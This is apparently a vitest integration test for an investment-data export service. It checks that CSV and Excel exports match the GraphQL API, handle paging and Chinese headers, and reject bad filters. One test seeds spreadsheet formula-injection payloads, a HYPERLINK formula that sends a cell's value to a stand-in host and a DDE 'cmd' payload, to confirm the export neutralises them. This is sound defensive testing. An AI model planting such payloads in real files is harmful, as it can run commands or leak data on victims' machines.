import { parse } from 'csv-parse/sync';
import type { TypedDocumentNode } from '@graphql-typed-document-node/core';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadDemoData } from '../../seeds/demo/load-demo.js';
import { toGlobalId } from '../../server/src/graphql/global-id.js';
import { graphql } from '../__generated__/gql.js';
import type { ExportedInvestmentsQuery, InvestmentFilter } from '../__generated__/graphql.js';
import { signedIn } from '../helpers/access.js';
import { Factory } from '../helpers/factories.js';
import { createTestServer, DIALECTS, graphQLBody, type GraphQLResponse, type TestServer } from '../helpers/server.js';

const ExportedInvestments = graphql(`
  query ExportedInvestments($f: InvestmentFilter, $a: String) {
    investments(filter: $f, first: 100, after: $a) {
      nodes {
        id
        organization {
          name {
            en
          }
          country
        }
        park {
          name {
            en
          }
        }
        sector {
          name {
            en
          }
        }
        stage
        amount {
          amount
          currency
          amountUsd
        }
        announcedOn
        expectedJobs
        verification
        recordedBy
        sources {
          quote
        }
      }
      pageInfo {
        hasNextPage
        endCursor
      }
    }
  }
`);

const ParkId = graphql(`
  query ExportParkId($s: String!) {
    park(slug: $s) {
      id
    }
  }
`);

const CreateOrganization = graphql(`
  mutation ExportCreateOrganization($i: CreateOrganizationInput!) {
    createOrganization(input: $i) {
      id
    }
  }
`);

const CreateInvestment = graphql(`
  mutation ExportCreateInvestment($i: CreateInvestmentInput!) {
    createInvestment(input: $i) {
      id
    }
  }
`);

/** A cell's value as text: strings and numbers as themselves (any other kind of value shows as its JSON). */
const cellText = (value: ExcelJS.CellValue): string => (typeof value === 'object' ? JSON.stringify(value) : String(value));

describe.each(DIALECTS)('exporting investments on %s', (dialect) => {
  let server: TestServer;
  beforeAll(async () => {
    server = await createTestServer(dialect);
    await loadDemoData(server.em(), { sizes: { organizations: 60, tenancies: 20, investments: 1200, deals: 20 } });
  });
  afterAll(async () => {
    await server?.close();
  });

  /** Every matching investment from the API, paging through, as the export's row (English) would state it. */
  async function apiRows(filter: InvestmentFilter): Promise<string[][]> {
    const rows: string[][] = [];
    let after: string | null = null;
    for (;;) {
      const res: GraphQLResponse<ExportedInvestmentsQuery> = await server.gql(ExportedInvestments, { f: filter, a: after });
      expect(res.errors, res.body).toBeUndefined();
      if (!res.data) throw new Error(res.body);
      for (const n of res.data.investments.nodes) {
        rows.push([
          n.id,
          n.organization?.name.en ?? '',
          n.organization?.country ?? '',
          n.park.name.en,
          n.sector.name.en,
          n.stage,
          n.amount?.amount ?? '',
          n.amount?.currency ?? '',
          n.amount?.amountUsd ?? '',
          n.announcedOn ?? '',
          n.expectedJobs == null ? '' : String(n.expectedJobs),
          n.verification,
          n.recordedBy ?? '',
          n.sources[0]?.quote ?? '',
        ]);
      }
      if (!res.data.investments.pageInfo.hasNextPage) return rows;
      after = res.data.investments.pageInfo.endCursor ?? null;
    }
  }
  const apiIds = async (filter: InvestmentFilter) => (await apiRows(filter)).map((r) => r[0]);
  /** Decimals compared as numbers ("1500.2500" and "1500.25" are one amount); everything else as text. */
  const same = (row: string[]) => row.map((cell, i) => ([6, 8].includes(i) && cell !== '' ? String(Number(cell)) : cell));
  const url = (format: string, params: Record<string, string>) => `${server.url}/export/investments.${format}?${new URLSearchParams(params).toString()}`;

  it('streams exactly the rows the API answers for the same filter and period, with the filter in the file name', async () => {
    const filter: InvestmentFilter = { stage: { in: ['SIGNED', 'OPERATING'] }, organization: { country: { in: ['KZ', 'RU', 'CN'] } } };
    const res = await fetch(url('csv', { filter: JSON.stringify(filter), from: '2024-01-01', to: '2025-12-31' }));
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(res.headers.get('content-disposition')).toContain('investments_2024-01-01_2025-12-31_stage-SIGNED+OPERATING_organization.country-KZ+RU+CN.csv');
    const text = (await res.text()).replace(/^\uFEFF/, '');
    const [header, ...rows] = parse(text, { relax_column_count: false });
    expect(header).toEqual([
      'ID',
      'Investor',
      'Investor country',
      'Park',
      'Sector',
      'Stage',
      'Amount',
      'Currency',
      'Amount (USD)',
      'Announced on',
      'Expected jobs',
      'Provenance',
      'Recorded by',
      'Source quote',
    ]);
    const expected = await apiRows({ ...filter, announcedOn: { gte: '2024-01-01', lte: '2025-12-31' } });
    expect(expected.length).toBeGreaterThan(20);
    // Column by column: every cell of every row equals what the API answers for that investment.
    expect(rows.map(same)).toEqual(expected.map(same));
  });

  it('pages through more rows than one page holds, and writes Chinese headers on request', async () => {
    const res = await fetch(url('csv', { lang: 'zh' }));
    const lines = (await res.text())
      .replace(/^\uFEFF/, '')
      .trim()
      .split(/\r?\n/);
    expect(lines[0]).toMatch(/^ID,投资方,投资方国家,园区/);
    expect(lines.length - 1).toBe((await apiIds({})).length);
    expect(lines.length - 1).toBeGreaterThan(1000);
  });

  it('writes the same rows as an Excel workbook with the filter on its own sheet', async () => {
    const filter: InvestmentFilter = { sector: { eq: 'LOGISTICS' } };
    const res = await fetch(url('xlsx', { filter: JSON.stringify(filter) }));
    expect(res.status).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await res.arrayBuffer()); // JSZip reads the ArrayBuffer as it is
    const sheet = workbook.worksheets[0];
    const rows: string[][] = [];
    sheet.eachRow((row, n) => {
      if (n > 1) rows.push(Array.from({ length: 14 }, (_, i) => (row.getCell(i + 1).value == null ? '' : cellText(row.getCell(i + 1).value))));
    });
    // Column by column, as in the CSV: every cell equals the API's answer (amounts and jobs are number cells).
    expect(rows.map(same)).toEqual((await apiRows(filter)).map(same));
    expect(cellText(workbook.worksheets[1].getCell('A1').value)).toContain('LOGISTICS');
  });

  it('neutralises text that a spreadsheet would run as a formula, in CSV and XLSX, and keeps numbers numbers', async () => {
    const officer = (await signedIn(server, 'OFFICER', '@Officer')).token;
    const ok = async <TResult, TVariables>(document: TypedDocumentNode<TResult, TVariables>, variables: TVariables): Promise<TResult> => {
      const res = await server.gql(document, variables, officer);
      expect(res.errors, res.body).toBeUndefined();
      if (!res.data) throw new Error(res.body);
      return res.data;
    };
    const park = (await ok(ParkId, { s: 'sco-energy-valley' })).park?.id ?? '';
    const names = ['=HYPERLINK("http://x.example/"&A2,"Click me")', "+cmd|' /C calc'!A0"];
    const ids: string[] = [];
    for (const name of names) {
      const org = (
        await ok(CreateOrganization, {
          i: { nameZh: name, nameEn: name, kind: 'COMPANY', country: 'KZ' },
        })
      ).createOrganization.id;
      const inv = await ok(CreateInvestment, {
        i: {
          organization: org,
          park,
          sector: 'LOGISTICS',
          stage: 'SIGNED',
          amount: { amount: '1500.25', currency: 'USD' },
          announcedOn: '2025-03-01',
          expectedJobs: 40,
        },
      });
      ids.push(inv.createInvestment.id);
    }
    // A negative amount (written past the API, which refuses one) stays a number; a name starting with "-" does not.
    const factory = new Factory(server.em());
    const negative = factory.investment(factory.park().entity, {
      organization: factory.organization({ nameEn: '-2+3', nameZh: '-2+3' }),
      amountMinor: -150_025n,
      amountUsdMinor: -150_025n,
    });
    await factory.flush();
    ids.push(toGlobalId('Investment', negative.id));
    const params = { filter: JSON.stringify({ id: { in: ids } }) };

    const csv = await fetch(url('csv', params));
    expect(csv.status).toBe(200);
    const text = (await csv.text()).replace(/^\uFEFF/, '');
    const lines = text.trim().split(/\r?\n/);
    expect(lines).toHaveLength(4);
    // csv-stringify quotes fields holding quotes; the cell's text starts with the single quote either way.
    expect(lines[1]).toContain(`"'=HYPERLINK(""http://x.example/""&A2,""Click me"")"`);
    expect(lines[1]).toContain(`,1500.25,USD,1500.25,2025-03-01,40,RECORDED,'@Officer,`);
    expect(lines[2]).toContain(`,'+cmd|' /C calc'!A0,`);
    expect(lines[3]).toContain(`,'-2+3,`);
    expect(lines[3]).toContain(`,-1500.25,USD,-1500.25,`);
    for (const line of lines.slice(1)) expect(line).not.toMatch(/(^|,)"?[=+@\t\r]/);

    const xlsx = await fetch(url('xlsx', params));
    expect(xlsx.status).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await xlsx.arrayBuffer());
    const sheet = workbook.worksheets[0];
    const rows = [2, 3, 4].map((n) => sheet.getRow(n));
    expect(rows.map((r) => r.getCell(2).value)).toEqual([`'${names[0]}`, `'${names[1]}`, "'-2+3"]);
    expect(rows.map((r) => r.getCell(2).type)).toEqual([ExcelJS.ValueType.String, ExcelJS.ValueType.String, ExcelJS.ValueType.String]);
    expect(rows.map((r) => r.getCell(7).value)).toEqual([1500.25, 1500.25, -1500.25]);
    expect(rows.map((r) => r.getCell(9).type)).toEqual([ExcelJS.ValueType.Number, ExcelJS.ValueType.Number, ExcelJS.ValueType.Number]);
    expect(rows[0].getCell(11).value).toBe(40);
    expect(rows[0].getCell(13).value).toBe("'@Officer");
    sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
  });

  it('refuses a bad filter or period with a clear 400 before any row', async () => {
    for (const [params, field] of [
      [{ filter: '{"stage": {"in": ["NOPE"]}}' }, 'filter'],
      [{ filter: '{"unknownField": 1}' }, 'filter'],
      [{ filter: 'not json' }, 'filter'],
      [{ from: '2025-02-01', to: '2025-01-01' }, 'from'],
    ] as const) {
      const res = await fetch(url('csv', params));
      expect(res.status, JSON.stringify(params)).toBe(400);
      expect((await graphQLBody(res)).errors?.[0].extensions).toMatchObject({ code: 'BAD_USER_INPUT', field });
    }
    expect((await fetch(`${server.url}/export/investments.pdf`)).status).toBe(400);
  });
});
